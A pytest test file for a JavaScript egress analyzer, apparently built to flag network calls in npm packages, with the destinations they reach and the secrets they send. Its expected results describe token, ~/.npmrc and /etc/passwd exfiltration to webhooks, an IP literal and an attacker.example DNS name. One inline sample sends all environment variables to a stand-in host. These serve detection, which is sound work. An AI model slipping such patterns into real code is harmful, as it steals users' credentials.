"""Request details of JavaScript network calls: where they connect and what data they send."""

from __future__ import annotations

import pytest

from egress.analyzers.javascript import JavaScriptAnalyzer
from egress.model import Destination, FindingKind, SourceFile

from .conftest import FIXTURES


@pytest.fixture(scope="module")
def details() -> JavaScriptAnalyzer:
    return JavaScriptAnalyzer(request_details=True)


def _findings(analyzer: JavaScriptAnalyzer, fixture: str, name: str = "index.js"):
    result = analyzer.analyze(SourceFile(name, (FIXTURES / fixture / name).read_bytes()))
    assert result.error is None
    return result.findings


def _dests(findings) -> dict[tuple[str, int], list[tuple]]:
    return {(f.api, f.line): [(d.text, d.known, d.classes, d.note) for d in f.destinations] for f in findings}


def _sources(findings) -> dict[tuple[str, int], tuple[str, ...]]:
    return {(f.api, f.line): f.data_sources for f in findings}


def test_literals_templates_constants_and_globals(details) -> None:
    assert _dests(_findings(details, "req-literals")) == {
        ("fetch", 7): [("https://api.example.com/v1/<dynamic>", "partial", ("public",), "")],
        ("http.get", 8): [("http://localhost:3000/health", "full", ("loopback",), "")],
        ("https.get", 9): [("https://203.0.113.7/x", "full", ("ip-literal", "public"), "")],
        ("http.get", 10): [("http://169.254.169.254/latest/meta-data/", "full",
                            ("ip-literal", "link-local", "cloud-metadata"), "")],
        ("fetch", 11): [("https://hooks.slack.com/services/T0/B0/x", "full", ("public", "webhook"), "")],
        ("fetch", 12): [("<dynamic>", "dynamic", ("dynamic-host",), "")],
        ("WebSocket", 13): [("wss://stream.example.org/feed", "full", ("public",), "")],
        ("XMLHttpRequest", 14): [("https://api.example.com/items", "full", ("public",), "")],
    }


def test_data_sent_by_a_websocket_and_an_xhr(details) -> None:
    sources = _sources(_findings(details, "req-literals"))
    assert (sources[("WebSocket", 13)], sources[("XMLHttpRequest", 14)]) == (("env HOME",), ("env",))
    assert all(not v for k, v in sources.items() if k[0] not in ("WebSocket", "XMLHttpRequest"))


def test_parsed_fields_of_a_destination(details) -> None:
    by_line = {f.line: f for f in _findings(details, "req-options")}
    assert by_line[7].destinations == (Destination(
        text="https://upload.example.net:8443/v2/put", known="full", scheme="https", host="upload.example.net",
        port=8443, classes=("public",)),)


def test_options_objects(details) -> None:
    assert _dests(_findings(details, "req-options")) == {
        ("https.request", 7): [("https://upload.example.net:8443/v2/put", "full", ("public",), "")],
        ("http.request", 9): [("http://intranet.local/x", "full", ("public",), "")],
        ("https.get", 10): [("https://cdn.example.com/f/<dynamic>", "partial", ("public",), "")],
    }


def test_parameter_followed_to_each_local_caller_but_not_the_redirect(details) -> None:
    assert _dests(_findings(details, "req-helper")) == {
        ("https.get", 4): [("https://a.example.com/one", "full", ("public",), "passed to get() at line 9"),
                           ("https://b.example.com/two", "full", ("public",), "passed to get() at line 10")],
    }


def test_data_and_options_through_a_helper_and_a_chained_end(details) -> None:
    findings = _findings(details, "req-helper-data")
    assert _dests(findings) == {
        ("https.request", 5): [("https://telemetry.example.io/i", "full", ("public",), "passed to send() at line 12")],
        # the helper writes into its options: what the caller passed is not where it goes
        ("https.request", 16): [("<dynamic>", "dynamic", ("dynamic-host",), "passed to post() at line 18")],
    }
    assert _sources(findings) == {("https.request", 5): ("hostname", "network-interfaces"), ("https.request", 16): ()}


def test_sockets_port_and_host(details) -> None:
    findings = _findings(details, "req-sockets")
    assert _dests(findings) == {
        ("net.connect", 6): [("198.51.100.20:4444", "full", ("ip-literal", "public"), "")],
        ("tls.connect", 9): [("secure.example.com:443", "full", ("public",), "")],
        ("net.connect", 10): [("db.example.internal:5432", "full", ("public",), "")],
        ("net.Socket", 12): [],
        ("net.Socket.connect", 13): [("localhost:6379", "full", ("loopback",), "")],
        ("dgram.createSocket", 15): [],
        ("dgram.Socket.send", 16): [("8.8.8.8:53", "full", ("ip-literal", "public"), "")],
    }
    assert _sources(findings) == {
        ("net.connect", 6): ("platform", "hostname"), ("tls.connect", 9): (), ("net.connect", 10): (),
        ("net.Socket", 12): (), ("net.Socket.connect", 13): (),     # line 11, a unix socket path: no finding
        ("dgram.createSocket", 15): (), ("dgram.Socket.send", 16): ("username",),
    }


def test_env_into_a_request_body(details) -> None:
    findings = _findings(details, "req-exfil-env")
    assert _sources(findings) == {
        ("https.request", 4): ("env NPM_TOKEN", "env"),
        ("fetch", 9): ("env GITHUB_TOKEN",),
    }
    assert _dests(findings)[("fetch", 9)] == [
        ("https://discord.com/api/webhooks/1/abc", "full", ("public", "webhook"), "")]


def test_hostname_into_a_dns_name(details) -> None:
    findings = _findings(details, "req-dns-hostname")
    assert _dests(findings) == {
        ("dns.lookup", 5): [("<dynamic>.attacker.example", "partial", ("dynamic-host",), "host built from data")],
        ("dns.resolve", 6): [("plain.example.com", "full", ("public",), "")],
    }
    assert _sources(findings) == {("dns.lookup", 5): ("hostname",), ("dns.resolve", 6): ()}


def test_npmrc_read_through_a_local_function_is_posted(details) -> None:
    findings = _findings(details, "req-npmrc")
    assert _sources(findings) == {("fetch", 9): ("file ~/.npmrc", "username")}
    assert _dests(findings) == {("fetch", 9): [("https://203.0.113.7/upload", "full", ("ip-literal", "public"), "")]}


def test_esm_imports_of_sources(details) -> None:
    findings = _findings(details, "req-esm", "index.mjs")
    assert _sources(findings) == {("fetch", 6): ("hostname", "file /etc/passwd"), ("fetch", 7): ("command-output",),
                                  ("fetch", 8): ()}
    assert [d.text for f in findings for d in f.destinations] == [
        "https://x.example.net/c", "https://x.example.net/d", "https://x.example.net/e"]


def test_a_file_without_sources_skips_the_taint_pass(details) -> None:
    from egress.analyzers.javascript.bindings import Bindings
    from egress.analyzers.javascript.dataflow import has_source
    from egress.analyzers.javascript.parsing import Parsers
    from egress.analyzers.javascript.scope import NameIndex
    from egress.catalog import load_catalog
    from egress.model import Ecosystem

    table = load_catalog(Ecosystem.NPM).sources

    def reads(code: bytes) -> bool:
        root = Parsers().parse("x.js", code).tree.root_node
        return has_source(code, root, Bindings(NameIndex(root, code), lambda _: None), table)

    assert reads(b"const os = require('os'); fetch(u, {body: os.hostname()})")
    assert reads(b"fetch(u, {body: process.env.X})")
    assert not reads(b"const u = new URL(x); fetch(u.hostname); // os.hostname()")
    assert not reads(b"const process = {env: 1}; fetch(process.env)")


def test_command_output_sync_and_through_a_callback(details) -> None:
    findings = _findings(details, "req-exec")
    assert _sources(findings) == {("https.get", 5): ("command-output",), ("https.get", 8): ("command-output",)}
    assert _dests(findings) == {
        ("https.get", 5): [("https://ping.example.com/?u=<dynamic>", "partial", ("public",), "")],
        ("https.get", 8): [("https://<dynamic>.x.example.com/", "partial", ("dynamic-host",), "host built from data")],
    }


def test_alternatives_env_configured_hosts_and_written_options(details) -> None:
    findings = _findings(details, "req-alternatives")
    registry_env = ("<dynamic>", "dynamic", ("dynamic-host",), "from env npm_config_registry")
    assert _dests(findings) == {
        ("https.get", 5): [registry_env, ("https://registry.npmjs.org/left-pad", "full", ("public", "package-registry"), "")],
        ("https.request", 9): [("<dynamic>", "dynamic", ("dynamic-host",), "")],   # `opts.hostname = …` later
        ("net.connect", 12): [("peer.example.com:7000", "full", ("public",), "passed to open() at line 14")],
        ("fetch", 17): [("https://eu.example.com/api", "full", ("public",), ""),
                        ("https://us.example.com/api", "full", ("public",), "")],
        ("https.get", 18): [registry_env, ("https://registry.npmjs.org/-/whoami?t=<dynamic>", "partial",
                                           ("public", "package-registry"), "")],
    }
    # a host configured from the environment is where the call goes, not data it sends; a token in the query is
    assert _sources(findings) == {("https.get", 5): (), ("https.request", 9): (), ("net.connect", 12): (),
                                  ("fetch", 17): (), ("https.get", 18): ("env NPM_TOKEN",)}


def test_banner_and_comment_urls_are_no_destinations(details) -> None:
    assert _findings(details, "req-banner") == ()


def test_a_details_failure_keeps_the_finding(details, monkeypatch) -> None:
    from egress.analyzers.javascript import details as details_module

    def broken(*_args):
        raise TypeError("boom")

    monkeypatch.setattr(details_module, "destinations", broken)
    result = details.analyze(SourceFile("index.js", (FIXTURES / "req-helper" / "index.js").read_bytes()))
    assert result.error is None
    (finding,) = result.findings
    assert (finding.api, finding.line, finding.destinations) == ("https.get", 4, ())
    assert finding.note == "request details not worked out: TypeError"


def test_details_can_be_switched_off() -> None:
    from egress.model import SourceFile

    data = (FIXTURES / "req-exfil-env" / "index.js").read_bytes()
    findings = JavaScriptAnalyzer(request_details=False).analyze(SourceFile("index.js", data)).findings
    assert [f.kind for f in findings] == [FindingKind.NETWORK, FindingKind.NETWORK]
    assert all(f.destinations == () and f.data_sources == () for f in findings)


# -- real packages, pinned, downloaded at test time ----------------------------
def _package_findings(tmp_path, spec: str) -> list:
    from egress.sources import SourceConfig, source_for
    from egress.sources.download import Fetcher

    analyzer = JavaScriptAnalyzer(request_details=True)
    findings = []
    with Fetcher(tmp_path / "cache") as fetcher:
        (artifact,) = list(source_for(spec, SourceConfig(fetcher=fetcher)).collect())
        for source in artifact.read_files(analyzer.handles):
            result = analyzer.analyze(source)
            assert result.error is None, (source.path, result.error)
            findings.extend(result.findings)
    return findings


@pytest.mark.network
def test_esbuild_install_downloads_from_the_npm_registry(tmp_path) -> None:
    findings = _package_findings(tmp_path, "npm:esbuild@0.21.5")
    (get,) = [f for f in findings if f.file == "install.js" and f.api == "https.get"]
    assert (get.line, get.column, get.kind) == (145, 5, FindingKind.NETWORK)
    (dest,) = get.destinations
    assert dest.known == "partial" and dest.host == "registry.npmjs.org" and dest.scheme == "https"
    assert dest.classes == ("public", "package-registry")
    assert dest.text == "https://registry.npmjs.org/<dynamic>/-/<dynamic>-<dynamic>.tgz"
    assert dest.note == "passed to fetch() at line 236"


@pytest.mark.network
def test_core_js_banner_urls_are_no_destinations(tmp_path) -> None:
    findings = _package_findings(tmp_path, "npm:core-js@3.37.1")
    assert [f for f in findings if f.file == "postinstall.js"] == []
    assert [f for f in findings if f.destinations] == []


def test_catalog_source_sections() -> None:
    from egress.catalog import load_catalog, parse_catalog
    from egress.model import Ecosystem

    catalog = parse_catalog(Ecosystem.NPM, '[source.os]\nhostname = "hostname"\n')
    assert catalog.sources == {"os": {"hostname": "hostname"}}
    assert parse_catalog(Ecosystem.NPM, "").sources == {}
    with pytest.raises(ValueError, match="source.os"):
        parse_catalog(Ecosystem.NPM, '[source.os]\nhostname = ""\n')
    shipped = load_catalog(Ecosystem.NPM).sources
    assert (shipped["os"]["userInfo"], shipped["fs"]["readFileSync"], shipped["child_process"]["execSync"]) == (
        "username", "file", "command-output")


def test_shorthand_host_is_the_variable_not_the_default(details) -> None:
    """`request({host, method})`: the host is the variable `host`, never the default localhost."""
    code = (b"const http = require('http');\n"
            b"exports.post = (host, data) => http.request({host, method: 'POST'}).end(data);\n"
            b"const hostname = 'example.org';\n"
            b"http.get({hostname, path: '/x'});\n")
    found = details.analyze(SourceFile("index.js", code)).findings
    assert {(f.line, tuple(d.text for d in f.destinations)) for f in found} == {
        (2, ("http://<dynamic>",)), (4, ("http://example.org/x",)),
    }


def test_websocket_and_messaging_clients_name_their_peer(details) -> None:
    found = _findings(details, "websocket-clients")
    assert {(f.api, f.line): tuple(d.text for d in f.destinations) for f in found} == {
        ("ws", 2): ("wss://example.org/a",), ("ws.WebSocket", 4): ("wss://example.org/b",),
        ("socket.io-client", 6): ("https://example.org",), ("mqtt.connect", 8): ("mqtt://example.org",),
    }


def test_a_port_written_as_text_is_parsed(details) -> None:
    code = b"const net = require('net');\nnet.connect({ host: 'example.org', port: parseInt('31337', 10) });\n"
    [finding] = details.analyze(SourceFile("index.js", code)).findings
    assert [(d.text, d.port) for d in finding.destinations] == [("example.org:31337", 31337)]


def test_a_loop_variable_carries_what_it_iterates(details) -> None:
    code = (b"const https = require('https');\n"
            b"for (const [k, v] of Object.entries(process.env)) {\n"
            b"  https.get('https://example.org/?' + k + '=' + encodeURIComponent(v));\n"
            b"}\n")
    [finding] = details.analyze(SourceFile("index.js", code)).findings
    assert (finding.api, finding.line, finding.data_sources) == ("https.get", 3, ("env",))
